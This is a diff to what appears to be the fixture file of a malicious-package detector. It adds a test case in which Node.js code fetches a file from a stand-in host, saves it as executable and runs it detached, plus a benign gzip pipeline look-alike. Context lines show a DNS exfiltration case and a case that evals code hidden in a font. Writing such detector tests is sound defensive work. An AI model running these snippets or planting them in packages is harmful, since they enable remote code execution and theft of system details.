@@ -110,6 +110,15 @@ HANDING = (
     Case("lines of what commands tell are looked up one by one", "EXFIL-001", HIGH, r"""
         require("child_process").exec("a=$(hostname;pwd;whoami) && echo $a | xxd -p | head | while read part;do nslookup $part.example.invalid;done");
     """, SETUP),
+    Case("a program that comes through a pipeline of streams and is started", "FETCH-001", HIGH, r"""
+        const { pipeline } = require("stream/promises"), { Readable } = require("stream");
+        const fs = require("fs"), os = require("os"), path = require("path");
+        (async () => {
+          const answer = await fetch("https://example.invalid/a"), target = path.join(os.tmpdir(), "a");
+          await pipeline(Readable.fromWeb(answer.body), fs.createWriteStream(target, { mode: 0o755 }));
+          require("child_process").spawn(target, [], { detached: true, stdio: "ignore" }).unref();
+        })();
+    """, SETUP),
     Case("code in a font of the package", "ENC-001", HIGH, r"""
         const fs = require("fs"), path = require("path");
         const read = (name) => (0, eval)(fs.readFileSync(path.join(__dirname, "assets", name)).slice(4).toString("utf8"));
@@ -152,6 +161,10 @@ GOOD_HANDING = (
         const fs = require("fs"), path = require("path");
         exports.font = (response) => response.end(fs.readFileSync(path.join(__dirname, "assets", "icons.woff2")).slice(4));
     """, files={"assets/icons.woff2": "wOF2console.log(1)"}),
+    Idiom("a file is packed through a pipeline of streams", r"""
+        const { pipeline } = require("stream"), fs = require("fs"), zlib = require("zlib");
+        exports.pack = (path, done) => pipeline(fs.createReadStream(path), zlib.createGzip(), fs.createWriteStream(path + ".gz"), done);
+    """),
     Idiom("a program of one of two systems shows a page", r"""
         const { spawn } = require("child_process");
         exports.show = (url) => spawn(process.platform === "win32" ? "cmd" : "xdg-open", process.platform === "win32" ? ["/c", "start", url] : [url], { detached: true });
